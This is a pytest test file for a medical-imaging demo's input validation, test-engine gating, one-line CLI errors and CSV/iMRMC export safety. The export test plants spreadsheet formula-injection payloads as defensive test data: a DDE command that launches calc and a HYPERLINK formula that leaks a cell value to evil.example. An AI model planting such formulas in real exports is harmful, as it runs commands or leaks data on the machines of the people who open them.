"""Issue 12 §15 and §13–14: no silent coercions, ValueError (never TypeError/AttributeError) for wrong types,
the test engine gated by LEGEND_ENABLE_TEST_ENGINE, CSV/iMRMC formula injection, one-line operator errors."""
from __future__ import annotations

import csv
import math

import numpy as np
import pytest

from legend_demo.cli import main
from legend_demo.core.points import LesionPoint, as_point, as_points
from legend_demo.method.prior import gaussian_prior, lesion_region, project_points


@pytest.mark.parametrize("point, fragment", [
    ({"x": True, "y": 3}, "must be a number"),
    ({"x": "12", "y": 3}, "must be a number"),
    ({"x": None, "y": 3}, "must be a number"),
    ({"x": 1, "y": float("nan")}, "finite"),
    ({"x": 1, "y": 2, "confidence": 1e6}, "confidence must be 1–5"),
    ({"x": 1, "y": 2, "confidence": 3.7}, "whole number"),
    ({"x": 1, "y": 2, "confidence": True}, "must be a number"),
    ({"x": 1, "y": 2, "confidence": "5"}, "must be a number"),
    ({"x": 1, "y": 2, "label": 7}, "label must be text"),
    ({"y": 2}, "lacks x"),
    (LesionPoint(1, 2, 99), "confidence must be 1–5"),
    ("10,20", "must be a LesionPoint or a dict"),
])
def test_bad_points_raise_value_error_naming_the_field(point, fragment):
    with pytest.raises(ValueError, match=fragment):
        as_point(point)


def test_good_points_keep_their_values_exactly():
    assert as_point({"x": 10, "y": 20.5, "confidence": 4.0, "label": "RLL"}) == LesionPoint(10.0, 20.5, 4, "RLL")
    assert as_point({"x": np.float32(3), "y": np.int64(4)}) == LesionPoint(3.0, 4.0, 5, "")
    with pytest.raises(ValueError, match="list of points"):
        as_points({"x": 1, "y": 2})  # a lone dict is not silently iterated over its keys
    with pytest.raises(ValueError, match="list of points"):
        as_points("[]")


@pytest.mark.parametrize("kwargs, fragment", [
    ({"sigma_ratio": 1e-300}, "vanishingly small"),
    ({"sigma_ratio": 0.0}, "positive"),
    ({"sigma_ratio": -0.1}, "positive"),
    ({"sigma_ratio": 1e200}, "huge"),
    ({"sigma_ratio": "0.1"}, "must be a number"),
    ({"sigma_ratio": None}, "must be a number"),
    ({"grid": (16.7, 16)}, "two positive integers"),
    ({"grid": "16"}, "pair of positive integers"),
    ({"grid": None}, "pair of positive integers"),
    ({"image_size": (100, True)}, "two positive integers"),
])
def test_gaussian_prior_refuses_bad_arguments_instead_of_nan_or_type_errors(kwargs, fragment):
    args = {"points": [{"x": 5, "y": 5}], "image_size": (100, 100), "grid": (16, 16), "sigma_ratio": 0.1, **kwargs}
    with pytest.raises(ValueError, match=fragment):
        gaussian_prior(**args)


def test_gaussian_prior_stays_finite_for_tiny_but_valid_sigmas():
    prior = gaussian_prior([{"x": 50, "y": 50}], (100, 100), (16, 16), sigma_ratio=1e-6)
    assert np.isfinite(prior).all() and prior.max() == 1.0 and (prior > 0).sum() == 1
    with pytest.raises(ValueError, match="eta"):
        lesion_region([{"x": 5, "y": 5}], (100, 100), (16, 16), eta="0.5")
    with pytest.raises(ValueError, match="outside"):
        project_points([{"x": 100, "y": 5}], (100, 100), (16, 16))


def test_point_editor_refuses_points_outside_the_image_like_generate_does():
    from legend_demo.ui.point_editor import editor_points, editor_value

    value = editor_value(np.zeros((500, 400), np.float32), [LesionPoint(10, 20, 4)], 0.1)
    assert editor_points(value) == [LesionPoint(10, 20, 4, "")]
    for x, y in ((999, 10), (10, -5), (400, 10)):
        bad = {**value, "points": value["points"] + [{"x": x, "y": y, "confidence": 5}]}
        with pytest.raises(ValueError, match="outside the 400x500 image"):
            editor_points(bad)
    edge = editor_value(np.zeros((100, 256), np.float32), [LesionPoint(255.97, 99.99, 5)], 0.1)
    assert editor_points(edge)[0].x < 256 and editor_points(edge)[0].y < 100  # shown rounded down, still inside


def _options(**overrides):
    base = {"sigma_ratio": 0.1, "bias_strength": -1.0, "seed": 0, "steps": 0, "num_samples": 1, "compare_gbca_off": False}
    return {**base, **overrides}


@pytest.mark.parametrize("overrides, fragment", [
    ({"num_samples": 0}, "num_samples=0 is outside"),
    ({"num_samples": 9}, "outside"),
    ({"num_samples": 1.5}, "whole number"),
    ({"steps": 0.5}, "whole number"),
    ({"steps": 2.9}, "whole number"),
    ({"steps": -1}, "must be 0"),
    ({"seed": 3.7}, "whole number"),
    ({"seed": -1}, "outside"),
    ({"seed": True}, "must be a number"),
    ({"seed": None}, "must be a number"),
    ({"seed": "4"}, "must be a number"),
    ({"compare_gbca_off": "false"}, "true or false"),
    ({"compare_gbca_off": 1}, "true or false"),
    ({"bias_strength": float("nan")}, "finite"),
    ({"sigma_ratio": 1e-300}, "outside"),
    ({"sigma_ratio": "0.1"}, "must be a number"),
])
def test_api_options_are_checked_strictly_never_rounded_or_defaulted(overrides, fragment):
    from legend_demo.ui.api import check_options

    with pytest.raises(ValueError, match=fragment):
        check_options(**_options(**overrides))


def test_api_options_keep_the_documented_meanings():
    from legend_demo.ui.api import check_options

    request, click = check_options(**_options())  # (the request's values, the click's)
    assert {**request, **click} == {"sigma_ratio": 0.1, "bias_strength": None, "seed": 0, "steps": None,
                                    "num_samples": 1, "compare_off": False}
    assert set(click) == {"num_samples", "compare_off"}
    request, click = check_options(**_options(steps=3.0, seed=7, num_samples=8, bias_strength=0, compare_gbca_off=True))
    checked = {**request, **click}
    assert (checked["steps"], checked["seed"], checked["num_samples"], checked["bias_strength"], checked["compare_off"]) == (3, 7, 8, 0.0, True)


def test_tiny_random_engine_exists_only_with_the_test_switch(monkeypatch, tmp_path):
    from PIL import Image

    from legend_demo.engines import registry

    monkeypatch.delenv(registry.TEST_ENGINE_ENV, raising=False)
    assert "tiny-random" not in [i.name for i in registry.available_engines()]
    with pytest.raises(ValueError, match="unknown engine 'tiny-random'"):
        registry.load_engine("tiny-random")
    with pytest.raises(ValueError, match="unknown engine"):
        registry.engine_info("tiny-random")
    with pytest.raises(ValueError, match="must be text"):
        registry.engine_info(3)
    image = tmp_path / "prior.png"
    Image.fromarray(np.random.default_rng(0).integers(0, 255, (96, 96), dtype=np.uint8)).save(image)
    code = main(["generate", "--image", str(image), "--text", "new right lower lobe consolidation",
                 "--engine", "tiny-random", "--out", str(tmp_path / "out")])
    assert code == 2 and not (tmp_path / "out").exists()
    monkeypatch.setenv(registry.TEST_ENGINE_ENV, "1")
    assert registry.engine_info("tiny-random").name == "tiny-random"


def test_formula_cells_are_neutralised_in_csv_and_imrmc_exports(tmp_path):
    from legend_demo.study.db import connect
    from legend_demo.study.export import export_csv, export_imrmc, safe_cell
    from legend_demo.study.ratings import Rating, submit_rating
    from legend_demo.study.reading import next_case

    assert [safe_cell(v) for v in ("=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "fine", 3, -1.5, None)] == \
        ["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "fine", 3, -1.5, None]
    demo, db = tmp_path / "demo", tmp_path / "s.db"
    assert main(["study", "demo-manifest", "--out", str(demo), "--drawings"]) == 0
    assert main(["study", "create", "--manifest", str(demo / "manifest.json"), "--db", str(db), "--seed", "1"]) == 0
    assert main(["study", "add-reader", "--db", str(db), "--name", "=cmd|' /C calc'!A0", "--password", "reader-password"]) == 0
    conn = connect(db)
    attack = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    submit_rating(conn, 1, next_case(conn, 1).position, Rating(3, 3, 3, True, 4, "yes", attack))
    export_csv(conn, tmp_path / "r.csv")
    export_imrmc(conn, tmp_path / "r.imrmc")
    row = next(csv.DictReader((tmp_path / "r.csv").open(newline="")))
    assert row["comment"] == "'" + attack and row["reader"].startswith("'=")
    assert row["realism"] == "3" and math.isclose(float(row["time_on_case_s"]), 0.0)
    data = (tmp_path / "r.imrmc").read_text().split("BEGIN DATA:")[1].split()
    assert all(not cell.startswith(("=", "+", "@")) for line in data for cell in line.split(","))
    assert data[0].startswith("-1,")  # the truth rows' reader id -1 is a number, not text, and stays as it is


def test_operator_errors_are_one_line_and_exit_code_2(tmp_path, capsys):
    bogus = tmp_path / "notes.db"
    bogus.write_text("this is not SQLite, just notes\n" * 20)
    for argv in (["study", "add-reader", "--db", str(bogus), "--name", "r", "--password", "reader-password"],
                 ["study", "summary", "--db", str(bogus)],
                 ["study", "export", "--db", str(bogus), "--out", str(tmp_path / "x.csv")],
                 ["generate", "--image", "missing.png", "--text", "new opacity", "--out", str(bogus)]):
        assert main(argv) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and err.startswith("error: ") and "Traceback" not in err
    assert bogus.read_text().startswith("this is not SQLite")  # left untouched


@pytest.mark.slow
@pytest.mark.parametrize("make, extra, fragment", [
    (lambda p: p, (), "does not exist"),
    (lambda p: (p.write_text("not sqlite " * 50), p)[1], (), "not a usable study database"),
    (lambda p: p, ("--share",), "--share cannot be used with --study"),
])
def test_app_study_launch_errors_are_one_line_and_exit_code_2(tmp_path, make, extra, fragment):
    import subprocess
    import sys
    from pathlib import Path

    db = make(tmp_path / "study.db")
    root = Path(__file__).resolve().parents[1]
    done = subprocess.run([sys.executable, "app.py", "--study", str(db), "--port", "1", *extra], cwd=root,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 2 and done.stderr.count("\n") == 1 and fragment in done.stderr
    assert "Traceback" not in done.stderr and done.stdout == ""
